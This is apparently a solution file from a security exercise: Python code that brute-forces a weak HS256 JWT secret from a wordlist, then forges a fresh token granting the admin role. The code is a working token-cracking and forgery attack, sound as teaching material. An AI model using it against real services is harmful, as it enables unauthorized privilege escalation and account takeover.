"""Exercise 13 · Crack a weak HS256 secret, then mint yourself an admin token (solution)."""

import hashlib
import hmac
import warnings

import jwt
from jwt.warnings import InsecureKeyLengthWarning


def crack(token, candidates):
    """Return the word in ``candidates`` that signs the HS256 ``token``, or None."""
    try:
        if jwt.get_unverified_header(token).get("alg") != "HS256":
            return None
        signing_input, _, signature = token.rpartition(".")
        expected = jwt.utils.base64url_decode(signature.encode())
    except (jwt.InvalidTokenError, ValueError):
        return None
    for word in candidates:
        guess = hmac.new(word.encode(), signing_input.encode(), hashlib.sha256).digest()
        if hmac.compare_digest(guess, expected):
            return word
    return None


def mint_admin(token, secret, now):
    """Return a new HS256 token signed with ``secret``, claiming the admin role, fresh for 5 min."""
    header = jwt.get_unverified_header(token)
    claims = jwt.decode(token, options={"verify_signature": False})
    claims.update(roles=["admin"], iat=int(now), exp=int(now) + 300)
    keep = {name: header[name] for name in ("typ", "kid") if name in header}
    with warnings.catch_warnings():  # PyJWT warns that the secret is short: we know
        warnings.simplefilter("ignore", InsecureKeyLengthWarning)
        return jwt.encode(claims, secret, algorithm="HS256", headers=keep)
